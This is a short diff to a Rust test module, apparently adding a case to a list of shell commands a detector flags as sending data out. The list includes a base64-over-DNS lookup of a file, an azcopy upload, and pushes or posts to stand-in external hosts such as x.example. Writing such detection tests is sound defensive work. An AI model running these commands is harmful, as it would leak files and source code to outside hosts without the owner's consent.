@@ -806,6 +806,7 @@ mod tests {
             "azcopy copy notes.md 'https://a.blob.core.windows.net/c/n'",
             "D=$(cat notes | base64).x.example; dig \"$D\"",
             "git -C ../app push backup main",
+            "git -c remote.origin.url=https://x.example/r push origin main",
             "npm config set registry https://r.example",
             "curl -d a=1 http://localhost:3000 https://x.example",
         ] {
